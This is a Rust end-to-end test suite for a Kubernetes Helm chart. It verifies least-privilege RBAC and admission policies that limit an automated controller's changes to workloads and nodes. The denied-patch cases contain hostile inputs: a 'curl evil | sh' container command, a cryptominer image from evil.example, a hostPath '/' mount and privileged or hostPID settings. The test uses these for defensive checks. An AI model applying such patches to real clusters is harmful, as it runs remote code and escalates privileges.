#![allow(clippy::unwrap_used, clippy::expect_used)]
//! The chart installed into the real control plane with its default values: a sensor on every
//! node, both controllers Running, a PDB, the generated certificate kept across an upgrade, RBAC
//! proved through tokens of the chart's own ServiceAccounts (what each may do, and the 403s for what
//! it may not), and an uninstall that removes the cluster-scoped RBAC.

use std::collections::BTreeSet;
use std::panic::AssertUnwindSafe;
use std::time::{Duration, Instant};

use auto_agent_e2e::helm::ChartRelease;
use auto_agent_e2e::wait::poll_until;
use auto_agent_e2e::{Cluster, TestNamespace};
use futures::FutureExt;
use k8s_openapi::api::apps::v1::{DaemonSet, Deployment, StatefulSet};
use k8s_openapi::api::authentication::v1::{TokenReview, TokenReviewSpec};
use k8s_openapi::api::coordination::v1::Lease;
use k8s_openapi::api::core::v1::{ConfigMap, Node, Pod, Secret};
use k8s_openapi::api::policy::v1::PodDisruptionBudget;
use k8s_openapi::api::rbac::v1::ClusterRole;
use kube::api::{DeleteParams, EvictParams, ListParams, Patch, PatchParams, PostParams};
use kube::config::AuthInfo;
use kube::{Api, Client};
use serde_json::{Value, json};

// ------------------------------------------------------------------------------------------------
// The real control plane

fn assert_status(result: Result<impl std::fmt::Debug, kube::Error>, code: u16, what: &str) {
    match result {
        Err(kube::Error::Api(status)) => assert_eq!(status.code, code, "{what}: {status:?}"),
        other => panic!("{what}: expected {code}, got {other:?}"),
    }
}

async fn client_with_token(cluster: &Cluster, token: String) -> Client {
    let mut config = cluster.admin_config().await.unwrap();
    config.auth_info = AuthInfo {
        token: Some(token.into()),
        ..Default::default()
    };
    Client::try_from(config).unwrap()
}

#[tokio::test]
async fn installs_into_the_real_cluster_with_least_privilege_identities() {
    let cluster = Cluster::get().unwrap();
    let admin = cluster.admin().await.unwrap();
    let ns = TestNamespace::create(&cluster, "chart").await.unwrap();
    let release = ChartRelease::release_name("chart");
    let started = Instant::now();
    let chart = ChartRelease::install(&cluster, &release, &ns.name, &[]).unwrap();
    println!(
        "helm install {release} -n {}: {:?}",
        ns.name,
        started.elapsed()
    );
    assert_eq!(chart.fullname, release, "the release name is the fullname");
    let sensor_sa = chart.sensor_service_account();
    let controller_sa = chart.controller_service_account();

    // A sensor on every node, both controllers Running (KWOK runs pods without images).
    let nodes: Vec<String> = Api::<Node>::all(admin.clone())
        .list(&ListParams::default())
        .await
        .unwrap()
        .items
        .into_iter()
        .map(|n| n.metadata.name.unwrap())
        .collect();
    assert!(nodes.len() >= 3, "{nodes:?}");
    let pods: Api<Pod> = Api::namespaced(admin.clone(), &ns.name);
    let running = |selector: String| {
        let pods = pods.clone();
        async move {
            let list = pods.list(&ListParams::default().labels(&selector)).await?;
            Ok::<_, anyhow::Error>(
                list.items
                    .into_iter()
                    .filter(|p| {
                        p.status.as_ref().and_then(|s| s.phase.as_deref()) == Some("Running")
                    })
                    .filter_map(|p| p.spec.and_then(|s| s.node_name))
                    .collect::<Vec<String>>(),
            )
        }
    };
    let wait = Instant::now();
    poll_until(
        "a Running sensor on every node",
        Duration::from_secs(120),
        || {
            let running = running(chart.selector("sensor"));
            let nodes = nodes.clone();
            async move {
                let on: BTreeSet<String> = running.await?.into_iter().collect();
                Ok(nodes.iter().all(|n| on.contains(n)))
            }
        },
    )
    .await
    .unwrap();
    let sensors = running(chart.selector("sensor")).await.unwrap();
    assert_eq!(
        sensors.len(),
        nodes.len(),
        "one sensor per node: {sensors:?}"
    );
    println!(
        "sensors Running on {} nodes: {:?}",
        nodes.len(),
        wait.elapsed()
    );
    poll_until("both controllers Running", Duration::from_secs(120), || {
        let running = running(chart.selector("controller"));
        async move { Ok(running.await?.len() == 2) }
    })
    .await
    .unwrap();
    println!(
        "controllers Running on {:?}: {:?}",
        running(chart.selector("controller")).await.unwrap(),
        wait.elapsed()
    );
    let pdb = Api::<PodDisruptionBudget>::namespaced(admin.clone(), &ns.name)
        .get(&controller_sa)
        .await
        .unwrap();
    assert_eq!(
        pdb.spec.unwrap().min_available,
        Some(k8s_openapi::apimachinery::pkg::util::intstr::IntOrString::Int(1))
    );

    // The generated TLS Secret survives an upgrade unchanged (lookup keeps it).
    let secrets: Api<Secret> = Api::namespaced(admin.clone(), &ns.name);
    let before = secrets
        .get(&chart.tls_secret_name())
        .await
        .unwrap()
        .data
        .unwrap();
    assert_eq!(
        before.keys().cloned().collect::<BTreeSet<_>>(),
        BTreeSet::from([
            "ca.crt".to_owned(),
            "tls.crt".to_owned(),
            "tls.key".to_owned()
        ])
    );
    let upgrade = Instant::now();
    chart.upgrade(&["--reuse-values"]).unwrap();
    let after = secrets
        .get(&chart.tls_secret_name())
        .await
        .unwrap()
        .data
        .unwrap();
    assert_eq!(
        before, after,
        "helm upgrade keeps the generated certificate"
    );
    println!("helm upgrade kept the certificate: {:?}", upgrade.elapsed());

    // Tokens of the chart's ServiceAccounts (TokenRequest) against the real API server.
    let rbac = Instant::now();
    let sensor = cluster.client_as(&ns.name, &sensor_sa).await.unwrap();
    let controller = cluster.client_as(&ns.name, &controller_sa).await.unwrap();
    let node = &nodes[0];
    let controller_pod = pods
        .list(&ListParams::default().labels(&chart.selector("controller")))
        .await
        .unwrap()
        .items[0]
        .metadata
        .name
        .clone()
        .unwrap();

    // The sensor reads its node's pods and its Node ...
    Api::<Pod>::all(sensor.clone())
        .list(&ListParams::default().fields(&format!("spec.nodeName={node}")))
        .await
        .unwrap();
    Api::<Node>::all(sensor.clone()).get(node).await.unwrap();
    // ... and writes nothing, reads no Secret.
    assert_status(
        Api::<Pod>::namespaced(sensor.clone(), &ns.name)
            .delete(&controller_pod, &DeleteParams::default())
            .await,
        403,
        "sensor deletes a pod",
    );
    assert_status(
        Api::<Node>::all(sensor.clone())
            .patch(
                node,
                &PatchParams::default(),
                &Patch::Merge(json!({"metadata": {"labels": {"chart-e2e": "x"}}})),
            )
            .await,
        403,
        "sensor patches a node",
    );
    assert_status(
        Api::<Secret>::namespaced(sensor.clone(), &ns.name)
            .list(&ListParams::default())
            .await,
        403,
        "sensor lists Secrets",
    );

    // The controller reviews the sensor's agent token, bound to the DaemonSet pod on `node`: the
    // audience, the ServiceAccount and the node all come out as the controller expects.
    let (pod_name, pod_uid) = chart.sensor_pod_on(&cluster, node).await.unwrap();
    let agent_token = cluster
        .bound_token(
            &ns.name,
            &sensor_sa,
            &["auto-agent"],
            (pod_name.as_str(), pod_uid.as_str()),
        )
        .await
        .unwrap();
    let review = Api::<TokenReview>::all(controller.clone())
        .create(
            &PostParams::default(),
            &TokenReview {
                spec: TokenReviewSpec {
                    token: agent_token.clone(),
                    audiences: Some(vec!["auto-agent".into()]),
                },
                ..Default::default()
            },
        )
        .await
        .unwrap()
        .status
        .unwrap();
    assert_eq!(review.authenticated, Some(true), "{review:?}");
    let user = review.user.unwrap();
    assert_eq!(
        user.username.unwrap(),
        format!("system:serviceaccount:{}:{sensor_sa}", ns.name)
    );
    assert_eq!(
        user.extra.unwrap()["authentication.kubernetes.io/node-name"],
        vec![node.clone()]
    );
    // That token is useless against the API itself (wrong audience).
    let agent_client = client_with_token(&cluster, agent_token).await;
    assert_status(
        Api::<Pod>::namespaced(agent_client, &ns.name)
            .list(&ListParams::default())
            .await,
        401,
        "the agent token against the API",
    );

    // The controller: what its features use ...
    Api::<Node>::all(controller.clone())
        .patch(
            node,
            &PatchParams::default().dry_run(),
            &Patch::Merge(json!({"spec": {"unschedulable": true}})),
        )
        .await
        .unwrap();
    assert_status(
        Api::<ConfigMap>::namespaced(controller.clone(), &ns.name)
            .get(&chart.ledger_name())
            .await,
        404,
        "controller reads its ledger (allowed, not created yet)",
    );
    assert_status(
        Api::<Lease>::namespaced(controller.clone(), &ns.name)
            .get(&chart.lease_name())
            .await,
        404,
        "controller reads its Lease (allowed, not created yet)",
    );
    // ... and no Secret anywhere, nothing beyond its names in its namespace.
    assert_status(
        Api::<Secret>::namespaced(controller.clone(), "default")
            .get("anything")
            .await,
        403,
        "controller reads a Secret in another namespace",
    );
    assert_status(
        Api::<Secret>::all(controller.clone())
            .list(&ListParams::default())
            .await,
        403,
        "controller lists Secrets cluster-wide",
    );
    assert_status(
        Api::<Secret>::namespaced(controller.clone(), &ns.name)
            .get(&chart.tls_secret_name())
            .await,
        403,
        "controller reads its own TLS Secret through the API",
    );
    assert_status(
        Api::<ConfigMap>::namespaced(controller.clone(), &ns.name)
            .get("kube-root-ca.crt")
            .await,
        403,
        "controller reads another ConfigMap",
    );
    assert_status(
        Api::<ConfigMap>::namespaced(controller.clone(), "default")
            .create(
                &PostParams {
                    dry_run: true,
                    ..Default::default()
                },
                &serde_json::from_value(json!({"metadata": {"name": "x"}})).unwrap(),
            )
            .await,
        403,
        "controller creates a ConfigMap in another namespace",
    );
    assert_status(
        Api::<Node>::all(controller.clone())
            .delete(node, &DeleteParams::default().dry_run())
            .await,
        403,
        "controller deletes a node",
    );
    println!("RBAC through the chart's tokens: {:?}", rbac.elapsed());

    // Uninstall removes the cluster-scoped RBAC; then the namespace goes.
    let cleanup = Instant::now();
    chart.uninstall().unwrap();
    for name in [&sensor_sa, &controller_sa] {
        assert_status(
            Api::<ClusterRole>::all(admin.clone()).get(name).await,
            404,
            "ClusterRole after uninstall",
        );
    }
    ns.delete(admin).await.unwrap();
    println!("uninstall and namespace deletion: {:?}", cleanup.elapsed());
    println!("install test total: {:?}", started.elapsed());
}

// ------------------------------------------------------------------------------------------------
// The admission policies on the controller's own requests

/// A Deployment as a team would have it: two containers, labels, an annotation of its own.
fn team_deployment(name: &str) -> Deployment {
    serde_json::from_value(json!({
        "metadata": {"name": name, "labels": {"app": name}, "annotations": {"team": "payments"}},
        "spec": {
            "replicas": 0,
            "selector": {"matchLabels": {"app": name}},
            "template": {
                "metadata": {"labels": {"app": name}},
                "spec": {"containers": [
                    {"name": "app", "image": "registry.example/app:1",
                     "resources": {"limits": {"memory": "64Mi"}, "requests": {"memory": "32Mi"}}},
                    {"name": "proxy", "image": "registry.example/proxy:1"},
                ]},
            },
        },
    }))
    .unwrap()
}

/// The Deployment's object as JSON without its kind, to be read as another kind.
fn team_workload(name: &str) -> Value {
    let mut v = serde_json::to_value(team_deployment(name)).unwrap();
    let object = v.as_object_mut().unwrap();
    object.remove("kind");
    object.remove("apiVersion");
    v
}

/// A StatefulSet and a DaemonSet with the same pod template (the DaemonSet on no node).
fn team_statefulset(name: &str) -> StatefulSet {
    let mut v = team_workload(name);
    v["spec"]["serviceName"] = json!(name);
    serde_json::from_value(v).unwrap()
}

fn team_daemonset(name: &str) -> DaemonSet {
    let mut v = team_workload(name);
    v["spec"].as_object_mut().unwrap().remove("replicas");
    v["spec"]["template"]["spec"]["nodeSelector"] = json!({"e2e.autoagent.io/nowhere": "true"});
    serde_json::from_value(v).unwrap()
}

/// The memory bump and the image swap exactly as `controller/src/act/workload.rs` sends them.
fn bump_patch(container: &str, memory: &str) -> Value {
    json!({"spec": {"template": {"spec": {"containers": [
        {"name": container, "resources": {"limits": {"memory": memory}, "requests": {"memory": memory}}}
    ]}}}})
}

fn mirror_patch(container: &str, from: &str, to: &str) -> Value {
    json!({
        "metadata": {"annotations": {format!("autoagent.io/original-image-{container}"): from}},
        "spec": {"template": {"spec": {"containers": [{"name": container, "image": to}]}}},
    })
}

/// The controller's workload actions as `controller/src/act/workload.rs` sends them: a memory bump
/// of `app`, an image swap of `proxy` (keeping the original in its annotation) and, where the kind
/// has replicas, a scale through the subresource.
async fn act_like_the_controller<K>(api: &Api<K>, name: &str, replicas: Option<i32>)
where
    K: Clone + serde::de::DeserializeOwned + std::fmt::Debug,
{
    let apply = PatchParams::default();
    api.patch(name, &apply, &Patch::Strategic(bump_patch("app", "80Mi")))
        .await
        .unwrap();
    let swap = mirror_patch(
        "proxy",
        "registry.example/proxy:1",
        "mirror.example/proxy:1",
    );
    api.patch(name, &apply, &Patch::Strategic(swap))
        .await
        .unwrap();
    if let Some(replicas) = replicas {
        api.patch_scale(
            name,
            &apply,
            &Patch::Merge(json!({"spec": {"replicas": replicas}})),
        )
        .await
        .unwrap();
    }
}

/// What [`act_like_the_controller`] changed is in the stored object.
fn assert_acted(workload: &impl serde::Serialize, replicas: Option<i32>) {
    let w = serde_json::to_value(workload).unwrap();
    let containers = &w["spec"]["template"]["spec"]["containers"];
    assert_eq!(
        containers[0]["resources"]["limits"]["memory"], "80Mi",
        "{w}"
    );
    assert_eq!(
        containers[0]["resources"]["requests"]["memory"], "80Mi",
        "{w}"
    );
    assert_eq!(containers[1]["image"], "mirror.example/proxy:1", "{w}");
    assert_eq!(
        w["metadata"]["annotations"]["autoagent.io/original-image-proxy"],
        "registry.example/proxy:1"
    );
    assert_eq!(w["spec"]["replicas"], json!(replicas), "{w}");
}

/// Waits until the controller's dry-run patch of `web`'s serviceAccountName is refused
/// (`in_force`) or allowed: the API server loads policies from a watch, so they take effect, and
/// go, shortly after helm creates or deletes them.
async fn await_policies(deployments: &Api<Deployment>, in_force: bool) {
    let what = if in_force {
        "the admission policies in force"
    } else {
        "the admission policies gone"
    };
    poll_until(what, Duration::from_secs(30), || {
        let deployments = deployments.clone();
        async move {
            let patch = json!({"spec": {"template": {"spec": {"serviceAccountName": "default"}}}});
            let result = deployments
                .patch(
                    "web",
                    &PatchParams::default().dry_run(),
                    &Patch::Strategic(patch),
                )
                .await;
            match (result, in_force) {
                (Err(kube::Error::Api(s)), true) if s.code == 403 => Ok(true),
                (Ok(_), false) => Ok(true),
                (other, _) => anyhow::bail!("not yet: {:?}", other.map(|_| "allowed")),
            }
        }
    })
    .await
    .unwrap();
}

/// A refusal by the admission policy `policy`, with a message containing `says`.
fn assert_denied_by(
    result: Result<impl std::fmt::Debug, kube::Error>,
    policy: &str,
    says: &str,
    what: &str,
) {
    match result {
        Err(kube::Error::Api(status)) => {
            assert_eq!(status.code, 403, "{what}: {status:?}");
            assert!(
                status.message.contains(&format!(
                    "ValidatingAdmissionPolicy '{policy}' with binding '{policy}' denied request"
                )),
                "{what}: {status:?}"
            );
            assert!(status.message.contains(says), "{what}: {status:?}");
            if says.starts_with("spec.template.spec.") {
                let lead =
                    "may change only containers' image and resources in a pod template, not ";
                assert!(status.message.contains(lead), "{what}: {status:?}");
            }
        }
        other => panic!("{what}: expected a refusal by {policy}, got {other:?}"),
    }
}

#[tokio::test]
async fn admission_policy_lets_the_controller_change_only_what_its_actions_need() {
    let started = Instant::now();
    let cluster = Cluster::get().unwrap();
    let admin = cluster.admin().await.unwrap();
    let ns = TestNamespace::create(&cluster, "vap").await.unwrap();
    let release = ChartRelease::release_name("vap");
    let chart = ChartRelease::install(
        &cluster,
        &release,
        &ns.name,
        &["--set", "controller.replicas=0"],
    )
    .unwrap();
    let sa = chart.controller_service_account();
    let workloads_policy = format!("{sa}-workloads");
    let nodes_policy = format!("{sa}-nodes");
    let namespaces_policy = format!("{sa}-namespaces");
    let controller = cluster.client_as(&ns.name, &sa).await.unwrap();
    let apply = PatchParams::default();
    let dry_run = PatchParams::default().dry_run();

    Api::<Deployment>::namespaced(admin.clone(), &ns.name)
        .create(&PostParams::default(), &team_deployment("web"))
        .await
        .unwrap();
    let deployments: Api<Deployment> = Api::namespaced(controller.clone(), &ns.name);
    let to_default_sa = json!({"spec": {"template": {"spec": {"serviceAccountName": "default"}}}});

    // The API server loads new policies from a watch: wait until they are in force.
    await_policies(&deployments, true).await;
    println!("policies in force: {:?}", started.elapsed());

    // Allowed: what the controller's actions send, for real, on each kind of workload (the API
    // server counts a DaemonSet's template changes in an annotation of its own, in the same
    // request).
    Api::<StatefulSet>::namespaced(admin.clone(), &ns.name)
        .create(&PostParams::default(), &team_statefulset("db"))
        .await
        .unwrap();
    Api::<DaemonSet>::namespaced(admin.clone(), &ns.name)
        .create(&PostParams::default(), &team_daemonset("agent"))
        .await
        .unwrap();
    let statefulsets: Api<StatefulSet> = Api::namespaced(controller.clone(), &ns.name);
    let daemonsets: Api<DaemonSet> = Api::namespaced(controller.clone(), &ns.name);
    act_like_the_controller(&deployments, "web", Some(2)).await;
    act_like_the_controller(&statefulsets, "db", Some(1)).await;
    act_like_the_controller(&daemonsets, "agent", None).await;
    // Replicas through the object itself, too.
    deployments
        .patch(
            "web",
            &apply,
            &Patch::Merge(json!({"spec": {"replicas": 1}})),
        )
        .await
        .unwrap();
    assert_acted(&deployments.get("web").await.unwrap(), Some(1));
    assert_acted(&statefulsets.get("db").await.unwrap(), Some(1));
    assert_acted(&daemonsets.get("agent").await.unwrap(), None);
    let host_path = json!({"spec": {"template": {"spec": {"volumes": [
        {"name": "host", "hostPath": {"path": "/"}}]}}}});
    assert_denied_by(
        statefulsets
            .patch("db", &apply, &Patch::Strategic(host_path.clone()))
            .await,
        &workloads_policy,
        "spec.template.spec.volumes",
        "a hostPath volume in a StatefulSet",
    );
    assert_denied_by(
        daemonsets
            .patch("agent", &apply, &Patch::Strategic(host_path))
            .await,
        &workloads_policy,
        "spec.template.spec.volumes",
        "a hostPath volume in a DaemonSet",
    );

    // Denied: everything else about a workload, each with the policy's own message.
    let strategic = |v: Value| Patch::Strategic(v);
    let merge = |v: Value| Patch::Merge(v);
    for (what, patch, says) in [
        (
            "another ServiceAccount",
            strategic(to_default_sa.clone()),
            "spec.template.spec.serviceAccountName",
        ),
        (
            "a hostPath volume",
            strategic(json!({"spec": {"template": {"spec": {"volumes": [
                {"name": "host", "hostPath": {"path": "/"}}]}}}})),
            "spec.template.spec.volumes",
        ),
        (
            "a new container",
            strategic(json!({"spec": {"template": {"spec": {"containers": [
                {"name": "miner", "image": "evil.example/miner:1"}]}}}})),
            "may not add, remove, rename or reorder containers",
        ),
        (
            "an init container",
            strategic(json!({"spec": {"template": {"spec": {"initContainers": [
                {"name": "init", "image": "evil.example/init:1"}]}}}})),
            "spec.template.spec.initContainers",
        ),
        (
            "a privileged pod",
            strategic(json!({"spec": {"template": {"spec": {"hostPID": true}}}})),
            "spec.template.spec.hostPID",
        ),
        (
            "an env value of an existing container",
            strategic(json!({"spec": {"template": {"spec": {"containers": [
                {"name": "app", "env": [{"name": "X", "value": "1"}]}]}}}})),
            "may change only the image and resources of a container",
        ),
        (
            "the command of an existing container",
            strategic(json!({"spec": {"template": {"spec": {"containers": [
                {"name": "app", "command": ["/bin/sh", "-c", "curl evil | sh"]}]}}}})),
            "may change only the image and resources of a container",
        ),
        (
            "a privileged container",
            strategic(json!({"spec": {"template": {"spec": {"containers": [
                {"name": "app", "securityContext": {"privileged": true}}]}}}})),
            "may change only the image and resources of a container",
        ),
        (
            "a pod template annotation (a rollout restart)",
            merge(json!({"spec": {"template": {"metadata": {"annotations": {
                "kubectl.kubernetes.io/restartedAt": "now"}}}}})),
            "may not change a pod template's metadata",
        ),
        (
            "the Deployment's strategy",
            merge(json!({"spec": {"paused": true}})),
            "may change only spec.replicas and the pod template's containers",
        ),
        (
            "the Deployment's labels",
            merge(json!({"metadata": {"labels": {"app": "other"}}})),
            "may not change a workload's labels",
        ),
        (
            "another annotation",
            merge(json!({"metadata": {"annotations": {"team": null}}})),
            "may change only its own autoagent.io/ annotations",
        ),
        (
            "the users' opt-out",
            merge(json!({"metadata": {"annotations": {"autoagent.io/ignore": "false"}}})),
            "never autoagent.io/ignore",
        ),
    ] {
        assert_denied_by(
            deployments.patch("web", &apply, &patch).await,
            &workloads_policy,
            says,
            what,
        );
    }
    // The admin is not the controller: the policies leave every other user alone.
    Api::<Deployment>::namespaced(admin.clone(), &ns.name)
        .patch("web", &dry_run, &Patch::Strategic(to_default_sa.clone()))
        .await
        .unwrap();

    // Nodes: cordon and uncordon with the agent's mark, nothing else (dry runs: the nodes are
    // shared with other tests).
    let nodes: Api<Node> = Api::all(controller.clone());
    let node = "kwok-node-0";
    nodes
        .patch(
            node,
            &dry_run,
            &Patch::Merge(
                json!({"metadata": {"annotations": {"autoagent.io/cordoned-by": "p"},
                                    "labels": {"autoagent.io/cordoned": "true"}},
                                 "spec": {"unschedulable": true}}),
            ),
        )
        .await
        .unwrap();
    nodes
        .patch(
            node,
            &dry_run,
            &Patch::Merge(auto_agent_e2e::scenario::uncordon_patch()),
        )
        .await
        .unwrap();
    for (what, patch, says) in [
        (
            "a taint",
            json!({"spec": {"taints": [{"key": "x", "effect": "NoSchedule"}]}}),
            "may change only spec.unschedulable of a node",
        ),
        (
            "a node label",
            json!({"metadata": {"labels": {"node-role.kubernetes.io/control-plane": ""}}}),
            "may change only its autoagent.io/cordoned label",
        ),
        (
            "another node annotation",
            json!({"metadata": {"annotations": {"example.com/owner": "me"}}}),
            "may change only its autoagent.io/cordoned-by annotation",
        ),
    ] {
        assert_denied_by(
            nodes.patch(node, &dry_run, &Patch::Merge(patch)).await,
            &nodes_policy,
            says,
            what,
        );
    }

    // kube-system: nothing at all, not even what is allowed elsewhere.
    let name = format!("vap-{}", std::process::id());
    let system_deployments = Api::<Deployment>::namespaced(admin.clone(), "kube-system");
    system_deployments
        .create(&PostParams::default(), &team_deployment(&name))
        .await
        .unwrap();
    let system_pods = Api::<Pod>::namespaced(admin.clone(), "kube-system");
    system_pods
        .create(
            &PostParams::default(),
            &serde_json::from_value(json!({"metadata": {"name": name},
                "spec": {"containers": [{"name": "app", "image": "registry.example/app:1"}]}}))
            .unwrap(),
        )
        .await
        .unwrap();
    // Dry runs (admission sees them like any request), so a broken policy changes nothing there;
    // the two objects are removed whatever happens.
    let evict_dry_run = EvictParams {
        post_options: PostParams {
            dry_run: true,
            ..Default::default()
        },
        ..Default::default()
    };
    let outcome = AssertUnwindSafe(async {
        let in_system = "may not change anything in namespace kube-system (protected: kube-system)";
        let as_controller = Api::<Deployment>::namespaced(controller.clone(), "kube-system");
        let controller_pods = Api::<Pod>::namespaced(controller.clone(), "kube-system");
        let mirror = mirror_patch("app", "registry.example/app:1", "mirror.example/app:1");
        let scale = json!({"spec": {"replicas": 1}});
        let attempts = [
            (
                "a memory bump in kube-system",
                as_controller
                    .patch(
                        &name,
                        &dry_run,
                        &Patch::Strategic(bump_patch("app", "80Mi")),
                    )
                    .await
                    .map(drop),
            ),
            (
                "an image swap in kube-system",
                as_controller
                    .patch(&name, &dry_run, &Patch::Strategic(mirror))
                    .await
                    .map(drop),
            ),
            (
                "scaling in kube-system",
                as_controller
                    .patch_scale(&name, &dry_run, &Patch::Merge(scale))
                    .await
                    .map(drop),
            ),
            (
                "a pod deletion in kube-system",
                controller_pods
                    .delete(&name, &DeleteParams::default().dry_run())
                    .await
                    .map(drop),
            ),
            (
                "an eviction in kube-system",
                controller_pods.evict(&name, &evict_dry_run).await.map(drop),
            ),
        ];
        for (what, result) in attempts {
            assert_denied_by(result, &namespaces_policy, in_system, what);
        }
    })
    .catch_unwind()
    .await;
    system_deployments
        .delete(&name, &DeleteParams::default())
        .await
        .unwrap();
    system_pods
        .delete(
            &name,
            &DeleteParams {
                grace_period_seconds: Some(0),
                ..Default::default()
            },
        )
        .await
        .unwrap();
    if let Err(panic) = outcome {
        std::panic::resume_unwind(panic);
    }

    // The switch: without the policies the same request is allowed again (RBAC alone allows it,
    // which is why the policies exist).
    chart
        .upgrade(&["--reuse-values", "--set", "admissionPolicy.enabled=false"])
        .unwrap();
    await_policies(&deployments, false).await;

    chart.uninstall().unwrap();
    ns.delete(admin).await.unwrap();
    println!("admission policy test: {:?}", started.elapsed());
}
